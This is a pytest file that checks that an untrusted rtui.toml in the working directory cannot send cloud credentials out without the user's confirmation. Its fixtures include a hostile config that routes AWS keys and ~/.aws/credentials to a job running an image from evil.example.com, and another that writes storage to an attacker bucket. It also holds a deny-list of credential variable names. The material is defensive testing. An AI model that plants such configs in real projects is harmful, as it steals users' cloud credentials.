"""Issue 23 item 4: a rtui.toml in the working directory cannot exfiltrate.

The fields that choose what runs or what is read are taken from ./rtui.toml only once the user
has confirmed that file's content; job_env never names a cloud or cluster credential.
"""

from __future__ import annotations

import json
import subprocess
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from backend.errors import UserError
from backend.resolve import resolve_config
from targets.kube.config import KubeConfig
from tests.conftest import run_rtui

if TYPE_CHECKING:
    from tui.app import RtuiApp

# The file of the issue: the user's AWS keys to the cluster, under an attacker's image and CRDs.
HOSTILE = (
    'target = "kube"\n'
    'job_env = "AWS_ACCESS_KEY_ID,AWS_SECRET_ACCESS_KEY,AWS_SESSION_TOKEN"\n'
    'hf_token = "~/.aws/credentials"\n'
    'image = "evil.example.com/ray:latest"\n'
    'kuberay_crds = "https://evil.example.com/crds/"\n'
)
SECRETS = {"AWS_ACCESS_KEY_ID": "AKIAHOSTILETEST0000", "AWS_SECRET_ACCESS_KEY": "hostile-secret-value-123",
           "AWS_SESSION_TOKEN": "hostile-session-token-456"}


def _one_line(proc: subprocess.CompletedProcess[str]) -> str:
    err = proc.stderr
    assert "Traceback" not in err
    assert len(err.strip().splitlines()) == 1, err
    return str(err)


@pytest.mark.parametrize("command", [["plan"], ["manifest"], ["up", "--yes"]])
def test_hostile_cwd_file_asks_for_confirmation_and_ships_nothing(tmp_path: Path, command: list[str]) -> None:
    (tmp_path / "rtui.toml").write_text(HOSTILE)
    proc = run_rtui(*command, env=SECRETS, timeout=60)
    assert proc.returncode == 2, (proc.stdout, proc.stderr)
    line = _one_line(proc)
    for field in ("job_env", "hf_token", "image", "kuberay_crds"):
        assert field in line
    assert "rtui config trust" in line
    for value in SECRETS.values():
        assert value not in proc.stdout + proc.stderr
    assert "evil.example.com" not in proc.stdout


def test_config_show_marks_unconfirmed_fields(tmp_path: Path) -> None:
    from backend.config import held_fields

    (tmp_path / "rtui.toml").write_text('target = "kube"\nimage = "evil.example.com/ray:latest"\nsteps = 7\n')
    proc = run_rtui("config", "show", "--json", timeout=60)
    assert proc.returncode == 0, proc.stderr
    data = json.loads(proc.stdout)
    assert data["unconfirmed"] == ["image", "target"]
    assert data["held"] == {"image": held_fields()["image"], "target": held_fields()["target"]}
    assert "not confirmed" in data["sources"]["image"]
    assert data["sources"]["steps"] == f"file:{tmp_path / 'rtui.toml'}"
    human = run_rtui("config", "show", timeout=60).stdout
    image_line = next(line for line in human.splitlines() if line.startswith("image"))
    assert "not confirmed" in image_line and "rtui config trust" in image_line
    assert held_fields()["image"] in image_line  # why it is held, beside the value
    assert "2 fields of" in human and "held until you confirm" in human


def test_config_show_lists_a_held_field_the_target_does_not_read(tmp_path: Path) -> None:
    """vpc_id means nothing to the local target, but the file's content is confirmed whole: show it."""
    (tmp_path / "rtui.toml").write_text('vpc_id = "vpc-0abc12345def67890"\n')
    human = run_rtui("config", "show", timeout=60).stdout
    line = next(line for line in human.splitlines() if line.startswith("vpc_id"))
    assert "not confirmed" in line and "vpc-0abc12345def67890" in line


def test_trust_once_then_the_same_content_is_taken_and_a_change_asks_again(tmp_path: Path) -> None:
    toml = tmp_path / "rtui.toml"
    toml.write_text('target = "kube"\nimage = "registry.example.com/ray:2.58"\n')
    with pytest.raises(UserError, match="rtui config trust"):
        resolve_config({}, environ={}, cwd=tmp_path)
    trusted = run_rtui("config", "trust", timeout=60)
    assert trusted.returncode == 0, trusted.stderr
    assert "image" in trusted.stdout
    resolved = resolve_config({}, environ={}, cwd=tmp_path)
    assert KubeConfig.of(resolved.config).image == "registry.example.com/ray:2.58"
    assert "confirmed" in resolved.sources["image"]
    toml.write_text('target = "kube"\nimage = "evil.example.com/ray:latest"\n')
    with pytest.raises(UserError, match="image"):
        resolve_config({}, environ={}, cwd=tmp_path)


def test_trust_refuses_a_file_whose_job_env_names_credentials(tmp_path: Path) -> None:
    (tmp_path / "rtui.toml").write_text(HOSTILE)
    proc = run_rtui("config", "trust", timeout=60)
    assert proc.returncode == 2
    assert "AWS_ACCESS_KEY_ID" in _one_line(proc)
    state = tmp_path / "state"
    assert not any(state.rglob("trusted*")) if state.exists() else True


def test_flags_env_and_the_users_own_config_dir_stay_trusted(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    xdg = tmp_path / "xdg"
    xdg.mkdir()
    (xdg / "rtui.toml").write_text('image = "mine.example.com/ray:1"\nhf_token = "env:HF_TOKEN"\n')
    monkeypatch.setenv("RTUI_CONFIG_DIR", str(xdg))
    work = tmp_path / "work"
    work.mkdir()
    cfg = KubeConfig.of(resolve_config({"target": "kube"}, environ={}, cwd=work).config)
    assert (cfg.image, cfg.hf_token) == ("mine.example.com/ray:1", "env:HF_TOKEN")
    # A held field set by a flag wins over the file, so the file's value needs no confirmation.
    (work / "rtui.toml").write_text('image = "other.example.com/ray:2"\nsteps = 3\n')
    cfg = KubeConfig.of(resolve_config({"target": "kube", "image": "flag.example.com/ray:3"}, environ={},
                                       cwd=work).config)
    assert (cfg.image, cfg.steps) == ("flag.example.com/ray:3", 3)
    cfg = KubeConfig.of(resolve_config({"target": "kube"}, environ={"RTUI_IMAGE": "env.example.com/ray:4"},
                                       cwd=work).config)
    assert cfg.image == "env.example.com/ray:4"


@pytest.mark.parametrize("name", ["AWS_ACCESS_KEY_ID", "AWS_PROFILE", "AZURE_CLIENT_SECRET", "ARM_CLIENT_SECRET",
                                  "GOOGLE_APPLICATION_CREDENTIALS", "CLOUDSDK_AUTH_ACCESS_TOKEN", "KUBECONFIG",
                                  "GITHUB_TOKEN", "VAULT_TOKEN", "DB_PASSWORD", "MY_SECRET_THING",
                                  "SSH_AUTH_SOCK", "OPENAI_API_KEY", "SOME_TOKEN"])
def test_job_env_refuses_credential_variables_from_every_source(name: str) -> None:
    with pytest.raises(UserError) as err:
        resolve_config({"job_env": f"HF_TOKEN,{name}"}, environ={})
    assert name in str(err.value) and err.value.exit_code == 2
    assert "\n" not in str(err.value)


def test_job_env_still_passes_the_jobs_own_secrets() -> None:
    cfg = resolve_config({"job_env": "HF_TOKEN,WANDB_API_KEY,MY_SETTING"}, environ={}).config
    assert cfg.job_env_names() == ("HF_TOKEN", "WANDB_API_KEY", "MY_SETTING")


# --- the wizard: a modal asks, and nothing the file chose is used before a yes -------------------

_WIZARD_FILE = ('target = "kube"\nimage = "evil.example.com/ray:latest"\nhf_token = "~/.aws/credentials"\n'
                'job_env = "MY_SETTING"\nsteps = 7\n')


def _wizard_app(tmp_path: Path) -> RtuiApp:
    from tui.app import RtuiApp
    from tui.cli import build_parser, wizard_session

    session, choose_from, confirm = wizard_session(build_parser().parse_args([]))
    return RtuiApp(session, choose_from=choose_from, confirm_config=confirm)


def test_wizard_refuses_a_job_env_naming_credentials_before_any_screen(tmp_path: Path) -> None:
    from tui.cli import build_parser, wizard_session

    (tmp_path / "rtui.toml").write_text(HOSTILE)
    with pytest.raises(UserError, match="AWS_ACCESS_KEY_ID"):
        wizard_session(build_parser().parse_args([]))


async def test_wizard_asks_once_and_a_no_runs_nothing(tmp_path: Path) -> None:
    from backend.config import held_fields
    from screens.confirm import ConfirmConfigFile
    from tests.pilot_wait import wait_for

    (tmp_path / "rtui.toml").write_text(_WIZARD_FILE)
    app = _wizard_app(tmp_path)
    # Until the yes, none of the file's held fields: not its target, so not its image either
    assert app.session.config.target == "local" and app.session.config.job_env == ""
    assert app.session.config.steps == 7  # what needs no confirmation is taken as it is
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmConfigFile), 5, "the config modal")
        text = " ".join(str(label.render()) for label in app.screen.query("Label"))
        assert "evil.example.com/ray:latest" in text and "~/.aws/credentials" in text and "job_env" in text
        for field in ("image", "hf_token", "job_env"):  # each held field says why it waits for a yes
            assert held_fields()[field] in text
        await pilot.press("n")
        await wait_for(pilot, lambda: app.return_code is not None, 5, "the app to quit")
    assert app.return_code == 2
    assert app.session.config.target == "local" and not isinstance(app.session.config, KubeConfig)
    assert not (tmp_path / "state" / "trusted-config.json").exists()


async def test_wizard_yes_takes_the_values_and_remembers_the_content(tmp_path: Path) -> None:
    from screens.confirm import ConfirmConfigFile
    from tests.pilot_wait import wait_for

    (tmp_path / "rtui.toml").write_text(_WIZARD_FILE)
    app = _wizard_app(tmp_path)
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmConfigFile), 5, "the config modal")
        await pilot.press("y")
        await wait_for(pilot, lambda: type(app.screen).__name__ == "TargetScreen", 5, "the target screen")
        assert KubeConfig.of(app.session.config).image == "evil.example.com/ray:latest"
        assert app.session.config.job_env == "MY_SETTING"
        assert "confirmed" in app.session.sources["image"]
    again = _wizard_app(tmp_path)  # the same content is not asked about again
    assert again.confirm_config is None and KubeConfig.of(again.session.config).image == "evil.example.com/ray:latest"


async def test_wizard_modal_keeps_its_question_on_screen_with_many_held_fields(tmp_path: Path) -> None:
    """A file may hold a dozen held fields: the list scrolls, the y/n line stays on an 80x24 terminal."""
    from screens.confirm import ConfirmConfigFile
    from tests.pilot_wait import wait_for

    (tmp_path / "rtui.toml").write_text(
        'target = "kube"\ncluster_name = "someone-elses"\nnamespace = "kube-system"\ncontext = "production"\n'
        'kubeconfig = "./evil-kubeconfig"\nimage = "evil.example.com/ray:latest"\noperator_scope = "cluster"\n'
        'kuberay_crds = "https://evil.example.com/crds/"\nallow_unpinned = true\nmodel_id = "attacker/model"\n'
        'storage_path = "s3://attacker-bucket/loot"\nresume_from = "s3://attacker-bucket/ckpt"\n'
        'job_env = "MY_SETTING"\nsteps = 7\n')
    app = _wizard_app(tmp_path)
    async with app.run_test(size=(80, 24)) as pilot:
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmConfigFile), 5, "the config modal")
        question = app.screen.query_one("#confirm-question")
        assert question.region.height and question.region.bottom <= 24
        fields = " ".join(str(label.render()) for label in app.screen.query("Label"))
        assert "resume_from" in fields and "operator_scope" in fields


async def test_wizard_starts_when_the_files_knobs_need_its_held_target(tmp_path: Path) -> None:
    """require_transport = "efa" is a free knob, but only valid with the file's (held) target = "kube":
    withheld, the session would be local + efa, which the local target refuses. Until the yes the
    whole file waits; the yes takes it all."""
    from backend.config import held_fields
    from screens.confirm import ConfirmConfigFile
    from tests.pilot_wait import wait_for

    (tmp_path / "rtui.toml").write_text('target = "kube"\nrequire_transport = "efa"\nsteps = 7\n')
    app = _wizard_app(tmp_path)
    assert (app.session.config.target, app.session.config.require_transport) == ("local", "auto")
    async with app.run_test(size=(100, 30)) as pilot:
        await wait_for(pilot, lambda: isinstance(app.screen, ConfirmConfigFile), 5, "the config modal")
        text = " ".join(str(label.render()) for label in app.screen.query("Label"))
        assert held_fields()["target"] in text and "require_transport" in text
        await pilot.press("y")
        await wait_for(pilot, lambda: type(app.screen).__name__ == "TargetScreen", 5, "the target screen")
        config = app.session.config
        assert (config.target, config.require_transport, config.steps) == ("kube", "efa", 7)
